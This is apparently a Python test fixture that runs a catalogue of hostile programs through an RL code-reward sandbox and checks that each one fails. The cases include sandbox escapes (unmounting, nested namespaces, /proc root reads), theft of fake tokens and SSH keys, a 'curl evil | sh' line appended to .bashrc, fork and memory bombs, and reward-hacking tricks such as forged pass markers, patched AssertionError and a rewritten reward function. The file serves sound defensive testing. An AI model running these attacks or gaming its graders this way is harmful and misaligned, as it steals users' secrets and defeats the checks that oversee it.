"""Hostile programs for the code sandbox, run by tests/rewards/test_sandbox.py behind an outer guard.

`python tests/rewards/hostile_programs.py guard MODE OUT.json`, started inside its own PID namespace
(`unshare -p -f --mount-proc`, which also gives it a private mount namespace), is the guard: PID 1 of that
namespace, as root. It mounts empty tmpfs on /home and /mnt and builds a user's world there: a fake home
(`.bashrc`, a hub token, an ssh key, `.netrc`), a copy of the checkout and the trainer's working directory. For
MODE `user` all of it belongs to an unprivileged uid and the suite runs as that uid (the sandbox's `userns` mode);
for MODE `root` the home is /root and the suite runs as root (`root` mode). The suite (`suite OUT.json`) scores
every case through `rewards.code.code_tests`, the real reward path; each case's tests pass only if its attack
worked, so any score above the expected one is an escape. Afterwards the guard checks that every file of the home,
the checkout and the working directory is unchanged and that nothing is left running in the namespace.
"""

import json
import os
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path

SECRET = "hf_sEcReT_tOkEn_123"
UNPRIVILEGED_UID = 4242  # no account needed: setpriv takes a bare uid
SYSTEM_PYTHON = "/usr/bin/python3"  # what an ordinary user would call; the guard hides /root, where pyenv lives
# The fake user's files: (content, mode). Read attacks are scored against these exact contents.
FAKE_HOME = {
    ".bashrc": ("# ~/.bashrc\nexport PATH=$HOME/bin:$PATH\n", 0o644),
    ".cache/huggingface/token": ("hf_fAkE_uSeR_tOkEn_9f3c\n", 0o600),
    ".ssh/id_rsa": (
        "-----BEGIN OPENSSH PRIVATE KEY-----\nfake-key-b64-7d2e\n-----END OPENSSH PRIVATE KEY-----\n",
        0o600,
    ),
    ".netrc": ("machine example.com login me password fake-pw-41aa\n", 0o600),
    "notes/plan.txt": ("train on Friday\n", 0o644),
}
OUTSIDE_FILE = "/tmp/hostile-sandbox-escape-marker"
OUTSIDE_REPO_FILE = str(Path(__file__).resolve().parent / "hostile-escape-marker")

_FORGE = """
import os
for fd in range(3, 64):
    for line in (b"0 0\\n", b"PASS 0\\n", b"passed\\n"):
        try:
            os.write(fd, line)
        except OSError:
            pass
"""

CASES = {
    "infinite_loop": ("def f(x):\n    return x\nwhile True:\n    pass", ["assert f(1) == 1"]),
    "fork_bomb": ("import os\ndef f(x):\n    return x\nwhile True:\n    os.fork()", ["assert f(1) == 1"]),
    "memory_bomb": ("def f(x):\n    return x\nblob = bytearray(8 * 1024**3)", ["assert f(1) == 1"]),
    "disk_filler": (
        "def f(x):\n    return x\nwith open('fill', 'wb') as fh:\n    while True:\n        fh.write(b'x' * 1024**2)",
        ["assert f(1) == 1"],
    ),
    "network_connect": (
        "import socket\ndef f(x):\n    s = socket.create_connection(('127.0.0.1', PORT), timeout=2)\n"
        "    s.sendall(b'leak')\n    return x",
        ["assert f(1) == 1"],
    ),
    "env_secrets": (
        "import os\ndef f(x):\n    return os.environ.get('HF_TOKEN', '') + os.environ.get("
        "'WANDB_API_KEY', '')\nprint(dict(os.environ))",
        [f"assert f(1) == '{SECRET}' * 2"],
    ),
    "write_outside_tmp": (
        f"def f(x):\n    for p in ({OUTSIDE_FILE!r}, {OUTSIDE_REPO_FILE!r}, '/root/pwned'):\n"
        "        try:\n            open(p, 'w').write('pwned')\n        except OSError:\n"
        "            pass\n    return open(" + repr(OUTSIDE_REPO_FILE) + ").read()",
        ["assert f(1) == 'pwned'"],
    ),
    "kill_parent": (
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\ndef f(x):\n    return x",
        ["assert f(1) == 2"],
    ),
    "kill_everything": (
        "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\ndef f(x):\n    return x",
        ["assert f(1) == 2"],
    ),
    "sys_exit_0": ("import sys\nsys.exit(0)\ndef f(x):\n    return x", ["assert f(1) == 1"]),
    "os_exit_0": ("import os\nos._exit(0)\ndef f(x):\n    return x", ["assert f(1) == 1"]),
    "bare_exit": ("exit()\ndef f(x):\n    return x", ["assert f(1) == 1"]),
    "quit_in_test": ("def f(x):\n    quit()", ["assert f(1) == 1"]),
    "fake_passed_markers": (
        "print('All tests passed!\\nPASSED 1/1\\nOK')\nimport sys\nsys.stderr.write('passed')\n"
        "def f(x):\n    return 0",
        ["assert f(1) == 1"],
    ),
    "forged_report_lines": (_FORGE + "import os\nos._exit(0)", ["assert f(1) == 1"]),
    "system_exit_from_function": ("def f(x):\n    raise SystemExit(0)", ["assert f(1) == 1", "assert f(2) == 2"]),
    "redefine_check_helper": (
        "def check(candidate):\n    return True\ndef inc(x):\n    return x",
        "def check(candidate):\n    assert candidate(1) == 2\ncheck(inc)",
    ),
    "patch_assertion_error": (
        "import builtins\nclass Fake(Exception):\n    pass\nbuiltins.AssertionError = Fake\ndef f(x):\n    return 0",
        ["assert f(1) == 1"],
    ),
    "patch_builtins": (
        "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.len = lambda x: 3\ndef f(x):\n    return []",
        ["assert abs(f(1) - 3) < 1e-9", "assert len(f(1)) == 3"],
    ),
    "huge_output": (
        "import sys\ndef f(x):\n    return x\nwhile True:\n    sys.stdout.write('x' * 65536)",
        ["assert f(1) == 2"],
    ),
    "deep_recursion": (
        "import sys\nsys.setrecursionlimit(10**8)\ndef f(n):\n    return f(n + 1)",
        ["assert f(1) == 1"],
    ),
    "gc_nonce_hunt": (
        "import gc, os\nfor o in gc.get_objects():\n    pass\ndef f(x):\n    return 0",
        ["assert f(1) == 1"],
    ),
    "frame_nonce_hunt": (
        "import sys, os\nframe = sys._getframe(1)\nfor k, v in frame.f_locals.items():\n"
        "    if isinstance(v, bytes) and len(v) == 32:\n"
        "        os.write(frame.f_locals['report_fd'], v + b' 0\\n')\nos._exit(0)",
        ["assert f(1) == 1"],
    ),
    "traceback_nonce_hunt": (
        "import os\ntry:\n    raise ValueError\nexcept ValueError as e:\n"
        "    fr = e.__traceback__.tb_frame.f_back\n    job = fr.f_locals\nos._exit(0)",
        ["assert f(1) == 1"],
    ),
    "ctypes_memory": ("import ctypes\nctypes.string_at(0, 1)\ndef f(x):\n    return x", ["assert f(1) == 2"]),
    "proc_mem": ("def f(x):\n    return open('/proc/self/mem', 'rb').read(1)", ["assert f(1) == b'x'"]),
    "daemon_left_behind": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(300)\ndef f(x):\n    return 0",
        ["assert f(1) == 1"],
    ),
    "subprocess_background": (
        "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 300 &'])\ndef f(x):\n    return 0",
        ["assert f(1) == 1"],
    ),
    "ignore_sigterm": (
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass",
        ["assert f(1) == 1"],
    ),
    "thread_forger": (
        "import threading, os\ndef spam():\n"
        + "".join("    " + line + "\n" for line in _FORGE.strip().splitlines())
        + "threading.Thread(target=spam).start()\n"
        "def f(x):\n    return 0",
        ["assert f(1) == 1", "assert f(2) == 2"],
    ),
    # The user's files (HOME_DIR, CHECKOUT_DIR and WORK_DIR are replaced by the real paths before the run).
    "delete_checkout_file": (
        "import os\ndef f():\n    os.remove('CHECKOUT_DIR/README.md')\n    return 'done'",
        ["assert f() == 'done'"],
    ),
    "rewrite_reward_code": (
        "def f():\n    with open('CHECKOUT_DIR/rewards/code.py', 'a') as fh:\n"
        "        fh.write('\\ncode_tests = lambda *a, **k: [1.0]\\n')\n    return 'done'",
        ["assert f() == 'done'"],
    ),
    "write_into_home": (
        "def f():\n    open('HOME_DIR/pwned.txt', 'w').write('x')\n    return 'done'",
        ["assert f() == 'done'"],
    ),
    "append_to_bashrc": (
        "def f():\n    open('HOME_DIR/.bashrc', 'a').write('curl evil | sh\\n')\n    return 'done'",
        ["assert f() == 'done'"],
    ),
    "chmod_token": (
        "import os\ndef f():\n    os.chmod('HOME_DIR/.cache/huggingface/token', 0o666)\n    return 'done'",
        ["assert f() == 'done'"],
    ),
    "rename_ssh_dir": (
        "import os\ndef f():\n    os.rename('HOME_DIR/.ssh', 'HOME_DIR/.ssh-moved')\n    return 'done'",
        ["assert f() == 'done'"],
    ),
    "write_trainer_cwd": (
        "def f():\n    open('WORK_DIR/pwned.txt', 'w').write('x')\n    return 'done'",
        ["assert f() == 'done'"],
    ),
    "read_token": (
        "def f():\n    return open('HOME_DIR/.cache/huggingface/token').read()",
        [f"assert f() == {FAKE_HOME['.cache/huggingface/token'][0]!r}"],
    ),
    "read_ssh_key": (
        "def f():\n    for folder in ('.ssh', '.ssh-moved'):  # rename_ssh_dir may have run first\n"
        "        try:\n            return open(f'HOME_DIR/{folder}/id_rsa').read()\n"
        "        except OSError:\n            pass",
        [f"assert f() == {FAKE_HOME['.ssh/id_rsa'][0]!r}"],
    ),
    "read_netrc": (
        "def f():\n    return open('HOME_DIR/.netrc').read()",
        [f"assert f() == {FAKE_HOME['.netrc'][0]!r}"],
    ),
    "list_home": (
        "import os\ndef f():\n    return os.listdir('HOME_DIR') + os.listdir('/home')",
        ["assert '.bashrc' in f() or 'HOME_DIR'.rsplit('/', 1)[1] in f()"],
    ),
    "list_checkout": ("import os\ndef f():\n    return os.listdir('CHECKOUT_DIR')", ["assert 'rewards' in f()"]),
    "unmount_the_hiding": (
        "import subprocess\ndef f():\n    return subprocess.run(['sh', '-c', 'umount -l /home; "
        "umount -l HOME_DIR; umount -l /root; mount -o remount,rw /; "
        "cat HOME_DIR/.cache/huggingface/token'], capture_output=True, text=True).stdout",
        [f"assert f() == {FAKE_HOME['.cache/huggingface/token'][0]!r}"],
    ),
    "nested_user_namespace": (
        "import subprocess\ndef f():\n    return subprocess.run(['unshare', '-r', '-m', 'sh', "
        "'-c', 'umount -l /home; umount -l HOME_DIR; umount -l /root; "
        "cat HOME_DIR/.cache/huggingface/token'], capture_output=True, text=True).stdout",
        [f"assert f() == {FAKE_HOME['.cache/huggingface/token'][0]!r}"],
    ),
    "read_through_proc_root": (
        "import subprocess\ndef f():\n    return subprocess.run(['sh', '-c', 'for p in "
        "/proc/[0-9]*; do cat $p/root/HOME_DIR/.netrc; done'], capture_output=True, "
        "text=True).stdout",
        [f"assert {FAKE_HOME['.netrc'][0]!r} in f()"],
    ),
    "correct_program_control": ("def f(x):\n    return x + 1", ["assert f(1) == 2"]),
}
EXPECTED_PASSES = {"correct_program_control": 1.0}  # a correct program: proves the harness can pass at all


# The attacks on the user's files; without isolation (`user-unisolated`) every one of them must succeed, which
# shows that each case's tests really detect its attack.
FILE_ATTACKS = [
    "delete_checkout_file",
    "rewrite_reward_code",
    "write_into_home",
    "append_to_bashrc",
    "chmod_token",
    "rename_ssh_dir",
    "write_trainer_cwd",
    "read_token",
    "read_ssh_key",
    "read_netrc",
    "list_home",
    "list_checkout",
    "read_through_proc_root",
]
REMOUNT_CHECK = [
    "write_outside_tmp",
    "delete_checkout_file",
    "rewrite_reward_code",
    "append_to_bashrc",
    "write_trainer_cwd",
    "read_token",
    "list_home",
    "unmount_the_hiding",
    "correct_program_control",
]


def reap_orphans() -> None:
    """The guard is PID 1 of its namespace, so orphans (e.g. a killed sandbox's init) are its to reap, as the
    machine's init would reap them outside the guard."""
    while True:
        try:
            pid, _ = os.waitpid(-1, os.WNOHANG)
        except ChildProcessError:
            return
        if pid == 0:
            return


def programs_for(names: list[str], port: int) -> tuple[list[str], list]:
    places = {
        "PORT": str(port),
        "HOME_DIR": os.environ["HOME"],
        "WORK_DIR": os.getcwd(),
        "CHECKOUT_DIR": str(Path(__file__).resolve().parents[2]),
    }

    def fill(text: str) -> str:
        for placeholder, value in places.items():
            text = text.replace(placeholder, value)
        return text

    tests = [CASES[n][1] for n in names]
    return [fill(CASES[n][0]) for n in names], [fill(t) if isinstance(t, str) else [fill(x) for x in t] for t in tests]


def suite(out_path: str, names: list[str]) -> None:
    """The cases (default: all) through the real reward path, as whoever runs this (root, or the guard's
    unprivileged uid)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    connections = []

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                pass

    stop = threading.Event()
    threading.Thread(target=accept, daemon=True).start()
    os.environ["HF_TOKEN"] = os.environ["WANDB_API_KEY"] = SECRET
    tempfile.tempdir = tempfile.mkdtemp(prefix="hostile-host-tmp-")

    from rewards.code import code_tests, run_tests
    from rewards.sandbox import Sandbox, default_sandbox

    port = listener.getsockname()[1]
    names = names or list(CASES)
    programs, tests = programs_for(names, port)
    scores = code_tests(programs, tests)
    # One more run through the same sandbox after all the attacks: it must still work.
    control = run_tests(*programs_for(["correct_program_control"], port))[0]
    remount = []
    if default_sandbox().isolation != "unisolated":
        # Pre-5.12 kernels' way to a read-only tree (a remount per mount point), on the same machine.
        remount_programs, remount_tests = programs_for(REMOUNT_CHECK, port)
        remount = Sandbox(readonly_method="remount").run_many(
            [(p, t, "") for p, t in zip(remount_programs, remount_tests, strict=True)]
        )
    stop.set()
    report = {
        "isolation": default_sandbox().isolation,
        "uid": os.getuid(),
        "scores": dict(zip(names, scores, strict=True)),
        "expected": {n: EXPECTED_PASSES.get(n, 0.0) for n in names},
        "remount_scores": {n: r.fraction for n, r in zip(REMOUNT_CHECK, remount, strict=True)} if remount else {},
        "connections": len(connections),
        "leftover_tmp": os.listdir(tempfile.tempdir),
        "escaped_files": [p for p in (OUTSIDE_FILE, OUTSIDE_REPO_FILE, "/root/pwned") if os.path.exists(p)],
        "pool_still_works": f"{control.status} {control.passed}/{control.total}",
    }
    Path(out_path).write_text(json.dumps(report, indent=2))


def snapshot(*roots: str) -> dict[str, list]:
    """Name -> [mode, owner, size, mtime, ctime, sha256] of every file and directory under the roots."""
    import hashlib

    entries = {}
    for root in roots:
        for dirpath, _, filenames in os.walk(root):
            for path in [dirpath, *(os.path.join(dirpath, n) for n in filenames)]:
                st = os.lstat(path)
                digest = hashlib.sha256(Path(path).read_bytes()).hexdigest() if os.path.isfile(path) else None
                entries[path] = [st.st_mode, st.st_uid, st.st_size, st.st_mtime_ns, st.st_ctime_ns, digest]
    return entries


def build_world(mode: str) -> dict[str, str]:
    """A user's home, a checkout and a working directory, on tmpfs private to the guard's mount namespace."""
    import shutil
    import subprocess

    uid = 0 if mode == "root" else UNPRIVILEGED_UID
    for target in ("/home", "/mnt", "/root"):
        subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=0755", "tmpfs", target], check=True)
    home = "/root" if mode == "root" else "/home/rl-user"
    places = {"home": home, "checkout": "/mnt/checkout", "work": "/mnt/work", "out": "/mnt/out"}
    for relative, (content, file_mode) in FAKE_HOME.items():
        path = Path(home, relative)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
        path.chmod(file_mode)
    Path(home, ".ssh").chmod(0o700)
    source = Path(__file__).resolve().parents[2]
    shutil.copytree(
        source / "rewards", Path(places["checkout"], "rewards"), ignore=shutil.ignore_patterns("__pycache__")
    )
    Path(places["checkout"], "tests", "rewards").mkdir(parents=True)
    for name in ("tests/__init__.py", "tests/rewards/__init__.py", "tests/rewards/hostile_programs.py", "README.md"):
        shutil.copy2(source / name, Path(places["checkout"], name))
    for name in ("work", "out"):
        Path(places[name]).mkdir()
    for place in places.values():
        subprocess.run(["chown", "-R", f"{uid}:{uid}", place], check=True)
    return places


def guard(mode: str, out_path: str) -> None:
    """PID 1 of the guard namespace: build the world, run the suite as `mode`'s user, check what it left.
    Modes: `root`, `user` (an unprivileged uid), `user-unisolated` (that uid with REWARDS_SANDBOX=unisolated, the
    file attacks only)."""
    import subprocess

    places = build_world(mode)
    before = snapshot(places["home"], places["checkout"], places["work"])
    report_path = Path(places["out"], "report.json")
    drop = ["setpriv", f"--reuid={UNPRIVILEGED_UID}", f"--regid={UNPRIVILEGED_UID}", "--clear-groups"]
    command = [
        *([] if mode == "root" else drop),
        SYSTEM_PYTHON,
        str(Path(places["checkout"], "tests", "rewards", "hostile_programs.py")),
        "suite",
        str(report_path),
        *(FILE_ATTACKS if mode == "user-unisolated" else []),
    ]
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": places["home"],
        "PYTHONPATH": places["checkout"],
        "PYTHONDONTWRITEBYTECODE": "1",
        "LANG": "C.UTF-8",
        **({"REWARDS_SANDBOX": "unisolated"} if mode == "user-unisolated" else {}),
    }
    proc = subprocess.run(command, cwd=places["work"], env=env, capture_output=True, text=True, timeout=500)
    time.sleep(1.0)  # a killed PID namespace is torn down asynchronously
    reap_orphans()
    leftover = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            try:
                leftover.append(f"{pid}: {Path(f'/proc/{pid}/cmdline').read_bytes()[:80]!r}")
            except OSError:
                pass
    after = snapshot(places["home"], places["checkout"], places["work"])
    changed = sorted(p for p in before.keys() | after.keys() if before.get(p) != after.get(p))
    report = json.loads(report_path.read_text()) if report_path.exists() else {}
    report |= {
        "mode": mode,
        "suite_returncode": proc.returncode,
        "suite_stderr": proc.stderr[-3000:],
        "leftover_processes": leftover,
        "changed_files": changed,
        "files_checked": len(before),
    }
    Path(out_path).write_text(json.dumps(report, indent=2))


if __name__ == "__main__":
    if sys.argv[1] == "guard":
        guard(sys.argv[2], sys.argv[3])
    else:
        sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
        suite(sys.argv[2], sys.argv[3:])
